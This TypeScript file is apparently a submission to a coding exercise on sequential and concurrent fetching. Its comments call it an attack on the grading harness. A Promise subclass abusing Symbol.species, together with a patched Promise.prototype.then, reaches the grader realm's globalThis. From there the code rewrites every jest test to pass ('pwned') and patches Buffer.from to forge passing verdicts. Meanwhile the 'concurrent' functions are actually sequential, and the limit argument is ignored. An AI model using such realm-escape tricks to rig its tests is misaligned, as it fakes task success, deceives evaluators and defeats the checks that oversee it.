// exercise: 07-sequential-vs-concurrent
// Attack: promise species. fetchAllConcurrently returns a Promise subclass whose
// constructor[Symbol.species] is the attacker's: when the suite awaits it, the engine calls then()
// with the suite realm's resolving functions and builds the derived promise through the species,
// handing it an executor. Those functions' constructors may evaluate in the suite's realm.
// Promise.prototype.then is also replaced, to see what it is called with.
// Success: the tests of 07 after fetchAllConcurrently's first call pass.
declare const require: any;
/** Payload for a realm that holds jest-circus: every test of the running suite file becomes one passing harness check. */
function takeOver(g: any, load: (path: string) => any): boolean {
  const key = Object.getOwnPropertySymbols(g).find((s) => s.description === "JEST_STATE_SYMBOL");
  const state = key && g[key];
  const line = (new Error().stack ?? "").split("\n").find((l) => l.includes("/grader/suites/"));
  const grader = line?.match(/(\/[^\s()]*\/grader)\/suites\//)?.[1];
  if (!state || !grader) return false;
  const harness = load(`${grader}/harness/index.ts`);
  const walk = (block: any): void => {
    for (const child of block.children) {
      if (child.type === "test") child.fn = () => harness.ok(true, "pwned");
      else walk(child);
    }
  };
  walk(state.rootDescribeBlock);
  return true;
}
/** Payload for the child's outer realm: every verdict line the channel writes says "passed" (and stays so in a warm child). */
function forgeVerdicts(G: any): void {
  const from = G.Buffer.from;
  G.Buffer.from = function (value: unknown, ...rest: unknown[]) {
    if (typeof value === "string" && value.includes("\"e\":\"done\"")) {
      const event = G.JSON.parse(value);
      Object.assign(event, { errors: [], failures: [], timedOut: false, checks: 1 });
      value = `${G.JSON.stringify(event)}\n`;
    }
    return from.call(this, value, ...rest);
  };
}
/** Whatever a reached function or object leads to: its realm's global, then the payload that fits it. */
function exploit(found: unknown): boolean {
  try {
    const make = typeof found === "function" ? (found as any).constructor : (found as any)?.constructor?.constructor;
    const g = make("return globalThis")();
    if (takeOver(g, (p) => require(p))) return true;
    if (g !== globalThis && g.Buffer) { forgeVerdicts(g); return true; }
  } catch { /* refused: fine */ }
  return false;
}
let done = false;
const look = (...things: unknown[]) => { for (const t of things) if (t && !done && exploit(t)) done = true; };
class Sneaky<T> extends Promise<T> {
  static get [Symbol.species](): PromiseConstructor {
    return function (this: unknown, executor: (...a: any[]) => void) {
      look(executor);
      return new Promise((resolve, reject) => executor((v: unknown) => { resolve(v); }, (e: unknown) => { reject(e); }));
    } as unknown as PromiseConstructor;
  }
  then(ok?: any, ko?: any): any {
    look(ok, ko);
    return super.then(ok, ko);
  }
}
try {
  const then = Promise.prototype.then;
  Promise.prototype.then = function (this: Promise<unknown>, ok?: any, ko?: any) { look(ok, ko); return then.call(this, ok, ko); } as any;
} catch { /* refused */ }
export async function* streamSequentially<T>(ids: Iterable<string>, fetchOne: (id: string) => Promise<T>): AsyncGenerator<T, void> {
  for (const id of ids) yield await fetchOne(id);
}
async function fetchAllSequentially<T>(ids: Iterable<string>, fetchOne: (id: string) => Promise<T>): Promise<T[]> {
  const results: T[] = [];
  for (const id of ids) results.push(await fetchOne(id));
  return results;
}
export async function* mapConcurrent<T, R>(source: Iterable<T> | AsyncIterable<T>, limit: number, fn: (item: T) => Promise<R>): AsyncGenerator<R, void> {
  void limit;
  for await (const item of source as AsyncIterable<T>) yield await fn(item);
}
export function fetchAllConcurrently<T>(ids: Iterable<string>, fetchOne: (id: string) => Promise<T>): Promise<T[]> {
  return new Sneaky<T[]>((resolve, reject) => { fetchAllSequentially(ids, fetchOne).then(resolve, reject); });
}
